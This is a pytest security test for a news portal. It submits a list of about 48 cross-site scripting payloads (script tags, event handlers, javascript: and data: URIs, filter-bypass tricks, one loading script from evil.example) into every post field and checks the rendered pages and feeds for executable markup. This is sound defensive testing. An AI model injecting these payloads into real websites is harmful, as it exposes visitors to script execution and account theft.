"""No payload a lead writes can run in a reader's browser.

Each payload goes into every field a lead writes (dateline, title, summary, body,
cover description), then the public page, the preview, the home page, the feed and
the JSON-LD are inspected with parsers, not by matching text.
"""

import io
import json
import re
import xml.etree.ElementTree as ET

import pytest
from PIL import Image
from sqlalchemy import select

from portal.extensions import db
from portal.news.models import NewsPost
from tests import factories
from tests.conftest import submit
from tests.html_checks import dangerous_markup, elements

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](" onmouseover="alert(1))',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="color:red" onclick="alert(1)">x</p>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "]]></content><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>alert(1)//-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
]


def test_there_are_at_least_forty_payloads():
    assert len(PAYLOADS) >= 40


def _image():
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


def _scripts(page):
    return [attrs for tag, attrs in elements(page) if tag == "script"]


def _check_page(page, where):
    assert dangerous_markup(page) == [], where
    scripts = _scripts(page)
    # Only our own data blocks and same-origin files: nothing a payload could add.
    assert all(
        a.get("type") == "application/ld+json" or a.get("src", "").startswith("/static/")
        for a in scripts
    ), (where, scripts)
    for raw in re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.S):
        json.loads(raw)  # the payload never breaks out of the data block


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_payload_in_every_field_never_runs(client, login, index):
    payload = PAYLOADS[index]
    delegation = factories.delegation(slug="unesco")
    lead = factories.user()
    factories.membership(lead, delegation)
    login(lead)
    data = {
        "dateline": payload[:80],
        "action": "publish",
        "cover": (io.BytesIO(_image()), "cover.png"),
    }
    for locale in ("en", "fr"):
        data.update(
            {
                f"{locale}-title": f"T{index} {payload}"[:200],
                f"{locale}-summary": payload,
                f"{locale}-body": f"Text {payload}\n\n{payload}",
                f"{locale}-cover_alt": payload[:300],
            }
        )
    response = submit(
        client, "/en/manage/unesco/news/new", data, content_type="multipart/form-data"
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    post = db.session.scalars(select(NewsPost)).one()
    for url in (
        f"/en/news/{post.slug}/",
        f"/fr/news/{post.slug}/",
        "/en/",
        "/fr/news/",
        "/en/delegations/unesco/",
        f"/en/manage/unesco/news/{post.id}/preview/en",
        f"/en/manage/unesco/news/{post.id}/preview/fr",
        f"/en/manage/unesco/news/{post.id}/edit",
    ):
        page = client.get(url)
        assert page.status_code == 200, url
        _check_page(page.get_data(as_text=True), url)
    for url in ("/en/news/feed.atom", "/fr/delegations/unesco/feed.atom"):
        feed = ET.fromstring(client.get(url).data)  # still well-formed XML
        for node in feed.iter():
            # type="html" is parsed as HTML by feed readers; text constructs are not.
            if node.get("type") == "html":
                _check_page(node.text or "", url)
            elif node.tag.endswith(("summary", "title")):
                assert node.get("type") in (None, "text"), url
